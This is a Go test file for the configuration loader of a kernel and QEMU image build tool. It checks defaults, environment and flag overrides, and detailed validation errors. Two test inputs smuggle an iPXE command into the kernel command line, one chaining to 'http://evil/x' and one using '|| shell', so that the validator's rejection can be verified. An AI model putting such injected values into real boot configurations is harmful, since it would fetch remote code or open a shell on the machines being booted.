package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/spf13/pflag"
)

// tree makes a work directory that is a redleaf source root and writes
// the config file cfg into it.
func tree(t *testing.T, cfg string) (dir, file string) {
	t.Helper()
	dir = t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module "+ModulePath+"\n\ngo 1.26\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	file = filepath.Join(dir, "test.yaml")
	if err := os.WriteFile(file, []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir, file
}

func load(t *testing.T, cfg string) (*Config, error) {
	t.Helper()
	dir, file := tree(t, cfg)
	return Load(Options{File: file, WorkDir: dir})
}

func TestDefaults(t *testing.T) {
	c, err := load(t, "arch: amd64\n")
	if err != nil {
		t.Fatal(err)
	}
	if c.Name != "test" || c.Kernel.Source != "module" || c.Kernel.Module != "github.com/gokrazy/kernel.amd64" {
		t.Errorf("defaults: %+v", c)
	}
	if c.Kernel.Cmdline != "console=ttyS0,115200 panic=-1" {
		t.Errorf("cmdline %q", c.Kernel.Cmdline)
	}
	if !c.Disk.Enabled || !c.Disk.UEFI || !c.Disk.BIOS || c.Disk.ESPMiB != 128 || !c.PXE.Enabled {
		t.Errorf("disk/pxe defaults: %+v %+v", c.Disk, c.PXE)
	}
	if c.Initramfs.Compression != "zstd" || c.QEMU.Mode != "kernel" || c.QEMU.MemoryMiB != 1024 || c.QEMU.Accel != "tcg" {
		t.Errorf("other defaults: %+v %+v", c.Initramfs, c.QEMU)
	}
	if filepath.Base(c.Out) != "test" || filepath.Base(filepath.Dir(c.Out)) != "out" {
		t.Errorf("out %q", c.Out)
	}
}

func TestArm64Defaults(t *testing.T) {
	c, err := load(t, "arch: arm64\n")
	if err != nil {
		t.Fatal(err)
	}
	if c.Kernel.Module != "github.com/gokrazy/kernel.arm64" || !strings.Contains(c.Kernel.Cmdline, "ttyAMA0") {
		t.Errorf("arm64 kernel: %+v", c.Kernel)
	}
	if c.Disk.Enabled || c.Disk.BIOS {
		t.Errorf("arm64 disk defaults: %+v", c.Disk)
	}
}

func TestEnvAndFlagsOverride(t *testing.T) {
	dir, file := tree(t, "arch: amd64\nqemu:\n  memory_mib: 512\n  cpus: 1\n")
	t.Setenv("RLBUILD_QEMU_MEMORY_MIB", "768")
	t.Setenv("RLBUILD_QEMU_CPUS", "2")
	fs := pflag.NewFlagSet("x", pflag.ContinueOnError)
	fs.Int("cpus", 0, "")
	if err := fs.Parse([]string{"--cpus=3"}); err != nil {
		t.Fatal(err)
	}
	c, err := Load(Options{File: file, WorkDir: dir, Flags: fs, FlagKeys: map[string]string{"cpus": "qemu.cpus"}})
	if err != nil {
		t.Fatal(err)
	}
	if c.QEMU.MemoryMiB != 768 {
		t.Errorf("env did not override file: %d", c.QEMU.MemoryMiB)
	}
	if c.QEMU.CPUs != 3 {
		t.Errorf("flag did not override env: %d", c.QEMU.CPUs)
	}
}

func TestKernelPathImpliesFile(t *testing.T) {
	dir, file := tree(t, "kernel:\n  path: bzImage\n")
	if err := os.WriteFile(filepath.Join(dir, "bzImage"), []byte("k"), 0o644); err != nil {
		t.Fatal(err)
	}
	c, err := Load(Options{File: file, WorkDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if c.Kernel.Source != "file" || c.Kernel.Path != filepath.Join(dir, "bzImage") {
		t.Errorf("kernel: %+v", c.Kernel)
	}
}

func TestHashIgnoresOutAndLocation(t *testing.T) {
	a, err := load(t, "out: /tmp/a\n")
	if err != nil {
		t.Fatal(err)
	}
	b, err := load(t, "out: /tmp/b\n")
	if err != nil {
		t.Fatal(err)
	}
	if a.Hash() != b.Hash() {
		t.Error("hash depends on out or on the checkout's location")
	}
	c, err := load(t, "kernel:\n  cmdline: console=ttyS0 x\n")
	if err != nil {
		t.Fatal(err)
	}
	if c.Hash() == a.Hash() {
		t.Error("hash ignores the command line")
	}
}

// Every error path: the message names the key, where the value came from
// and what would fix it.
func TestErrors(t *testing.T) {
	for _, tc := range []struct {
		name string
		cfg  string
		env  map[string]string
		want []string // substrings of the error
	}{
		{"unknown key with hint", "arhc: amd64\n", nil, []string{"test.yaml:1", "arhc: unknown key", `did you mean "arch"`}},
		{"unknown nested key", "kernel:\n  cmdlin: x\n", nil, []string{"test.yaml:2", "kernel.cmdlin: unknown key", `"kernel.cmdline"`}},
		{"unknown arch", "name: x\narch: riscv\n", nil, []string{"test.yaml:2", "arch: unknown arch \"riscv\"", "amd64 or arm64"}},
		{"wrong type int", "qemu:\n  memory_mib: lots\n", nil, []string{"test.yaml:2", "qemu.memory_mib: expected a whole number", "\"lots\""}},
		{"fractional int", "qemu:\n  cpus: 1.5\n", nil, []string{"qemu.cpus: expected a whole number"}},
		{"wrong type bool", "disk:\n  uefi: maybe\n", nil, []string{"test.yaml:2", "disk.uefi: expected true or false"}},
		{"wrong type string", "kernel:\n  cmdline: [a, b]\n", nil, []string{"kernel.cmdline: expected a string, got a list"}},
		{"wrong type list", "initramfs:\n  files: {a: b}\n", nil, []string{"initramfs.files: expected a list of strings, got a mapping"}},
		{"section given a value", "kernel: bzImage\n", nil, []string{"test.yaml:1", "kernel: is a section"}},
		{"not a mapping", "- a\n- b\n", nil, []string{"must be a YAML mapping"}},
		{"bad yaml", "arch: [\n", nil, []string{"not valid YAML", "line"}},
		{"unknown kernel source", "kernel:\n  source: modul\n", nil, []string{"kernel.source: unknown kernel source", `"module"`}},
		{"kernel file missing", "kernel:\n  source: file\n  path: nope\n", nil, []string{"test.yaml:3", "kernel.path:", "nope does not exist"}},
		{"kernel file unset", "kernel:\n  source: file\n", nil, []string{"kernel.path: kernel.source is file but no kernel.path"}},
		{"path with module", "kernel:\n  source: module\n  path: x\n", nil, []string{"kernel.path is set but kernel.source is module"}},
		{"bad compression", "initramfs:\n  compression: lzma\n", nil, []string{"initramfs.compression: unknown compression", "zstd, gzip or none"}},
		{"bad command", "initramfs:\n  commands: [\"/bin/ls\"]\n", nil, []string{"initramfs.commands:", "not a Go package path"}},
		{"missing initramfs file", "initramfs:\n  files: [\"nope:/etc/x\"]\n", nil, []string{"initramfs.files:", "does not exist"}},
		{"esp too small", "disk:\n  esp_mib: 32\n", nil, []string{"disk.esp_mib:", "at least 64"}},
		{"disk too small", "disk:\n  size_mib: 100\n", nil, []string{"disk.size_mib:", "at least 130"}},
		{"no loader", "disk:\n  uefi: false\n  bios: false\n", nil, []string{"disk.enabled:", "needs a boot loader"}},
		{"bios on arm64", "arch: arm64\ndisk:\n  enabled: true\n  bios: true\n", nil, []string{"disk.bios: legacy BIOS boot exists only on amd64"}},
		{"bad mode", "qemu:\n  mode: floppy\n", nil, []string{"qemu.mode: unknown boot mode", "kernel, uefi, bios, pxe"}},
		{"little memory", "qemu:\n  memory_mib: 64\n", nil, []string{"qemu.memory_mib:", "at least 128"}},
		{"cpus", "qemu:\n  cpus: 0\n", nil, []string{"qemu.cpus:", "at least 1"}},
		// Numbers never wrap or overflow, and booleans are not numbers.
		{"huge memory", "qemu:\n  memory_mib: 99999999999999999999\n", nil, []string{"test.yaml:2", "qemu.memory_mib:", "too large", "at most 1048576"}},
		{"max int memory", "qemu:\n  memory_mib: 9223372036854775807\n", nil, []string{"qemu.memory_mib:", "too large", "at most 1048576"}},
		{"overflowing disk", "disk:\n  size_mib: 8796093022208\n", nil, []string{"disk.size_mib:", "too large", "at most 4194304"}},
		{"negative disk", "disk:\n  size_mib: -1\n", nil, []string{"disk.size_mib:", "too small", "at least 0"}},
		{"bool memory", "qemu:\n  memory_mib: true\n", nil, []string{"qemu.memory_mib: expected a whole number, got", "from 128 to 1048576"}},
		{"fraction cpus", "qemu:\n  cpus: 1.5\n", nil, []string{"qemu.cpus: expected a whole number"}},
		{"env huge", "arch: amd64\n", map[string]string{"RLBUILD_QEMU_MEMORY_MIB": "99999999999999999999"}, []string{"environment variable RLBUILD_QEMU_MEMORY_MIB: qemu.memory_mib:", "too large"}},
		{"env text", "arch: amd64\n", map[string]string{"RLBUILD_QEMU_CPUS": "2x"}, []string{"environment variable RLBUILD_QEMU_CPUS: qemu.cpus: expected a whole number"}},
		{"huge fs", "rv6:\n  fs:\n    enabled: true\n    size_mib: 99999999999\n", nil, []string{"rv6.fs.size_mib:", "too large"}},
		{"accel", "qemu:\n  accel: hvf\n", nil, []string{"qemu.accel: unknown accelerator"}},
		{"bad name", "name: \"a b\"\n", nil, []string{"name:", "not a usable build name"}},
		{"env value", "arch: amd64\n", map[string]string{"RLBUILD_ARCH": "sparc"}, []string{"environment variable RLBUILD_ARCH: arch: unknown arch \"sparc\""}},
		{"env cmdline line break", "arch: amd64\n", map[string]string{"RLBUILD_KERNEL_CMDLINE": "console=ttyS0\nchain http://evil/x"}, []string{"environment variable RLBUILD_KERNEL_CMDLINE: kernel.cmdline: the kernel command line contains a control character", "one line"}},
		{"cmdline operator", "kernel:\n  cmdline: quiet || shell\n", nil, []string{"kernel.cmdline: kernel command line:", "would chain another iPXE command"}},
		{"env typo", "arch: amd64\n", map[string]string{"RLBUILD_ARHC": "arm64"}, []string{"environment variable RLBUILD_ARHC: sets no configuration key", "RLBUILD_ARCH"}},
		{"source elsewhere", "source: /\n", nil, []string{"source:", "no go.mod"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for k, v := range tc.env {
				t.Setenv(k, v)
			}
			_, err := load(t, tc.cfg)
			if err == nil {
				t.Fatal("no error")
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q lacks %q", err, w)
				}
			}
		})
	}
}

func TestMissingFile(t *testing.T) {
	_, err := Load(Options{File: filepath.Join(t.TempDir(), "nope.yaml")})
	if err == nil || !strings.Contains(err.Error(), "config file does not exist") || !strings.Contains(err.Error(), "configs/") {
		t.Errorf("error %v", err)
	}
	_, err = Load(Options{})
	if err == nil || !strings.Contains(err.Error(), "--config") {
		t.Errorf("error %v", err)
	}
}

func TestSeveralErrorsAtOnce(t *testing.T) {
	_, err := load(t, "arch: x\nqemu:\n  cpus: 0\n")
	es, ok := err.(Errors)
	if !ok || len(es) != 2 {
		t.Fatalf("want 2 errors, got %v", err)
	}
	if !strings.HasPrefix(err.Error(), "2 problems") {
		t.Errorf("error %q", err)
	}
}

func TestShippedConfigs(t *testing.T) {
	matches, _ := filepath.Glob("../configs/*.yaml")
	if len(matches) < 3 {
		t.Fatalf("want at least 3 configs in configs/, have %v", matches)
	}
	for _, m := range matches {
		if _, err := Load(Options{File: m, WorkDir: ".."}); err != nil {
			t.Errorf("%s: %v", m, err)
		}
	}
}
